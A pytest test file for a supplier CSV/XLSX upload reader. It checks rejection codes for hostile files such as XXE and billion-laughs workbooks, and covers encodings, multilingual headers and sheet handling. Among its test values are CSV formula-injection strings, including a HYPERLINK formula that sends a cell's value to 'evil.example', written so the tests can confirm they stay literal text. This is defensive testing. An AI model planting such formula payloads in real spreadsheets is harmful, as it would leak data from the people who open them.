"""Every file in tests/data/uploads gets the right answer: a rejection code, row issues, or rows
read exactly as written."""

from __future__ import annotations

from pathlib import Path

import pytest

from ingest.reading import FieldDef, FieldSpec, RawRow, Table, UploadRejected, open_table
from tests.unit.imports.corpus import CLEAN_ROWS, HEADER, UPLOADS, small_corpus

MAX = 10 * 1024 * 1024


def read(name: str, **kwargs: object) -> tuple[Table, list[RawRow]]:
    table = open_table(UPLOADS / name, filename=name, max_bytes=MAX, **kwargs)  # type: ignore[arg-type]
    rows = [row for chunk in table.iter_chunks() for row in chunk]
    return table, rows


def rejection(name: str, **kwargs: object) -> UploadRejected:
    with pytest.raises(UploadRejected) as caught:
        read(name, **kwargs)
    return caught.value


def test_committed_corpus_matches_its_generator() -> None:
    expected = small_corpus()
    assert len(expected) >= 20
    for name, payload in expected.items():
        assert (UPLOADS / name).read_bytes() == payload, f"regenerate: {name} is stale"


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("empty.csv", "empty_file"),
        ("blank_lines.csv", "empty_file"),
        ("header_only.csv", "no_data_rows"),
        ("header_then_blank_rows.xlsx", "no_data_rows"),
        ("duplicate_headers.csv", "duplicate_columns"),
        ("duplicate_identical_headers.csv", "duplicate_columns"),
        ("missing_country.csv", "missing_columns"),
        ("custom_headers.csv", "missing_columns"),
        ("mixed_encoding.csv", "encoding"),
        ("invalid_bytes.csv", "encoding"),
        ("binary_renamed.csv", "unsupported_file_type"),
        ("image_renamed.csv", "unsupported_file_type"),
        ("pdf_renamed.xlsx", "unsupported_file_type"),
        ("legacy.xls", "unsupported_file_type"),
        ("zip_renamed.xlsx", "unsupported_file_type"),
        ("truncated.xlsx", "corrupt_file"),
        ("xxe.xlsx", "xml_entities"),
        ("billion_laughs.xlsx", "xml_entities"),
    ],
)
def test_hostile_file_is_rejected_with_its_code(name: str, code: str) -> None:
    assert rejection(name).code == code


def test_clean_csv_and_xlsx_read_exactly_as_written() -> None:
    for name in ("clean_suppliers.csv", "clean_suppliers.xlsx"):
        table, rows = read(name)
        assert [r.row_number for r in rows] == [2, 3, 4, 5]
        fields = [table.columns[h] for h in HEADER]
        assert [r.values for r in rows] == [
            dict(zip(fields, row, strict=True)) for row in CLEAN_ROWS
        ]
        assert all(r.issues == () for r in rows)
        assert rows[0].source_columns["worker_count"] == "Workers"


def test_missing_columns_lists_the_headers_found_and_accepted_synonyms() -> None:
    error = rejection("missing_country.csv")
    assert "country" in error.detail
    assert "'Supplier', 'City', 'Notes'" in error.detail
    assert "'pays'" in error.detail


def test_duplicate_columns_names_both_headers() -> None:
    assert "'Supplier Name', 'Vendor'" in rejection("duplicate_headers.csv").detail


def test_column_map_resolves_custom_headers_and_duplicates() -> None:
    table, rows = read("custom_headers.csv", column_map={"partner": "name", "ORIGIN": "country"})
    assert rows[0].values == {"name": "Acme", "country": "FR"}
    assert table.ignored_columns == ("Notes",)
    _, rows = read("duplicate_headers.csv", column_map={"Vendor": ""})
    assert rows[0].values == {"name": "Acme", "country": "FR"}


def test_column_map_to_an_unknown_field_is_rejected() -> None:
    assert (
        rejection("custom_headers.csv", column_map={"Partner": "supplier"}).code
        == "invalid_column_map"
    )


def test_ragged_rows_are_row_issues_and_trailing_empty_cells_are_not() -> None:
    _, rows = read("ragged_rows.csv")
    issues = {r.row_number: r.issues for r in rows}
    assert issues[2] == () and issues[5] == () and issues[6] == ()
    assert "4 cells but the header has 3" in issues[3][0].message
    assert issues[3][0].value == "extra"
    assert "2 cells but the header has 3" in issues[4][0].message


def test_mixed_encoding_names_both_lines() -> None:
    detail = rejection("mixed_encoding.csv").detail
    assert "line 2 is UTF-8" in detail and "line 3" in detail


def test_formulas_are_kept_as_literal_text_in_csv() -> None:
    _, rows = read("formulas.csv")
    assert rows[0].values["name"] == '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert rows[1].values == {"name": "@SUM(1+1)", "country": "DE", "address": "-2+3"}


def test_xlsx_formulas_give_cached_values_and_formula_text_stays_text() -> None:
    _, rows = read("formula_cached.xlsx")
    assert rows[0].values == {
        "name": "Acme",
        "country": "FR",
        "address": "click",
        "worker_count": "1200",
    }
    assert rows[1].values["address"] == '=HYPERLINK("http://evil.example","x")'


def test_long_cell_is_a_row_issue_and_the_next_row_still_reads() -> None:
    _, rows = read("long_cell.csv")
    assert "40,000 characters" in rows[0].issues[0].message
    assert rows[0].issues[0].column == "Address"
    assert rows[1].values["address"] == "ok" and rows[1].issues == ()


def test_nul_bytes_in_a_cell_are_a_row_issue() -> None:
    _, rows = read("nul_bytes.csv")
    assert rows[0].issues[0].column == "Supplier"
    assert "NUL" in rows[0].issues[0].message
    assert rows[1].issues == ()


def test_na_nan_none_null_stay_text() -> None:
    _, rows = read("namibia_na.csv")
    assert rows[0].values == {
        "name": "Windhoek Meat",
        "country": "NA",
        "city": "None",
        "sector": "null",
    }
    assert rows[1].values["city"] == "NaN" and rows[1].values["sector"] == "N/A"


def test_excel_dates_render_as_iso_and_whole_floats_as_integers() -> None:
    audit_fields = FieldSpec(
        "audits",
        (
            FieldDef("supplier", required=True, synonyms=("Supplier",)),
            FieldDef("date", synonyms=("Audit date",)),
            FieldDef("workers", synonyms=("Workers",)),
            FieldDef("share", synonyms=("Migrant share",)),
            FieldDef("active", synonyms=("Active",)),
        ),
    )
    table, rows = read("excel_dates.xlsx", fields=audit_fields)
    assert rows[0].values == {
        "supplier": "Acme",
        "date": "2024-03-01",
        "workers": "1200",
        "share": "0.35",
        "active": "TRUE",
    }
    assert rows[1].values["date"] == "2023-03-15"
    assert rows[1].values["share"] == "0.3"  # 0.1 + 0.2 shown as Excel shows it
    assert table.ignored_columns == ("Country",)


def test_thousands_separators_reach_validation_untouched() -> None:
    _, rows = read("thousands_separators.csv")
    assert [r.values["worker_count"] for r in rows[:5]] == [
        "1,200",
        "1 200",
        "1.200",
        "1200.0",
        "1\u202f200",
    ]


@pytest.mark.parametrize(
    ("name", "encoding", "delimiter"),
    [
        ("utf16le_bom.txt", "utf-16-le", "\t"),
        ("utf16be_bom.csv", "utf-16-be", "\t"),
        ("utf16le_no_bom.csv", "utf-16-le", ","),
        ("cp1252_accents.csv", "cp1252", ";"),
        ("semicolon_bom.csv", "utf-8-sig", ";"),
        ("pipe_delimited.csv", "utf-8", "|"),
        ("tab_delimited.tsv", "utf-8", "\t"),
        ("clean_suppliers.csv", "utf-8", ","),
    ],
)
def test_encoding_and_delimiter_are_detected(name: str, encoding: str, delimiter: str) -> None:
    table, rows = read(name)
    assert (table.encoding, table.delimiter) == (encoding, delimiter)
    assert rows and all(r.issues == () for r in rows)


def test_utf16_text_decodes_exactly() -> None:
    _, rows = read("utf16le_bom.txt")
    assert rows[0].values == {"name": "Şişecam", "country": "TR", "city": "İstanbul"}
    assert rows[1].values["name"] == "北京纺织"


def test_cp1252_accents_and_typographic_characters_decode() -> None:
    table, rows = read("cp1252_accents.csv")
    assert [r.values["name"] for r in rows] == [
        "Société Générale Textile",
        "Müller & Söhne",
        "Café “Œuvre” – 50€",
    ]
    assert any("Windows-1252" in w for w in table.warnings)


def test_semicolon_file_with_bom_keeps_decimal_commas() -> None:
    table, rows = read("semicolon_bom.csv")
    assert list(table.columns) == [
        "Nom du fournisseur",
        "Pays",
        "Effectif",
        "% travailleurs migrants",
    ]
    assert rows[0].values["migrant_share"] == "12,5"


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        (
            "french_headers.csv",
            {
                "external_ref": "F-1",
                "name": "Usine Dupont",
                "country": "France",
                "region": "Bretagne",
                "sector": "agriculture",
                "products": "lait",
                "worker_count": "40",
            },
        ),
        (
            "spanish_headers.csv",
            {
                "external_ref": "P-9",
                "name": "Textiles Andinos",
                "country": "Perú",
                "city": "Lima",
                "products": "algodón",
                "worker_count": "150",
            },
        ),
        (
            "chinese_headers.csv",
            {
                "external_ref": "C-1",
                "name": "广州服装厂",
                "country": "CN",
                "city": "广州",
                "products": "服装",
                "worker_count": "800",
            },
        ),
        (
            "portuguese_german_headers.csv",
            {
                "name": "Café do Brasil",
                "country": "BR",
                "external_ref": "L-7",
                "worker_count": "55",
            },
        ),
    ],
)
def test_headers_in_other_languages_map(name: str, expected: dict[str, str]) -> None:
    _, rows = read(name)
    assert rows[0].values == expected


def test_named_sheet_with_title_rows_above_the_header() -> None:
    table, rows = read("named_sheet.xlsx", sheet="suppliers")
    assert table.sheet == "Suppliers" and table.header_row == 3
    assert [(r.row_number, r.values) for r in rows] == [
        (4, {"name": "Acme", "country": "FR", "external_ref": "1001"}),
        (5, {"name": "Beta", "country": "NA", "external_ref": "B-2"}),
    ]


def test_missing_sheet_lists_the_sheets() -> None:
    error = rejection("named_sheet.xlsx", sheet="Vendors")
    assert error.code == "sheet_not_found"
    assert "'Read me', 'Suppliers'" in error.detail


def test_first_sheet_is_read_by_default() -> None:
    # The first sheet of named_sheet.xlsx is a note, not a table.
    assert rejection("named_sheet.xlsx").code == "missing_columns"


def test_quoted_newlines_stay_in_one_row() -> None:
    _, rows = read("quoted_newlines.csv")
    assert [r.row_number for r in rows] == [2, 3]
    assert rows[0].values["address"] == "12 rue X\r\nBâtiment B\r\n75001 Paris"


def test_unclosed_quote_is_reported_on_its_row() -> None:
    _, rows = read("unclosed_quote.csv")
    assert rows[0].issues == ()
    messages = " ".join(i.message for i in rows[1].issues)
    assert "quote" in messages


def test_title_rows_above_a_csv_header_are_skipped() -> None:
    table, rows = read("title_rows.csv")
    assert table.header_row == 3
    assert [(r.row_number, r.values) for r in rows] == [(4, {"name": "Acme", "country": "FR"})]


def test_content_decides_the_type_not_the_name(tmp_path: Path) -> None:
    renamed = tmp_path / "suppliers.xlsx"
    renamed.write_bytes((UPLOADS / "clean_suppliers.csv").read_bytes())
    table = open_table(renamed, filename=renamed.name, max_bytes=MAX)
    assert table.format == "csv"
    assert any("named like a workbook" in w for w in table.warnings)
    table.close()
    as_csv = tmp_path / "suppliers.csv"
    as_csv.write_bytes((UPLOADS / "clean_suppliers.xlsx").read_bytes())
    with open_table(as_csv, filename=as_csv.name, max_bytes=MAX) as table:
        assert table.format == "xlsx"
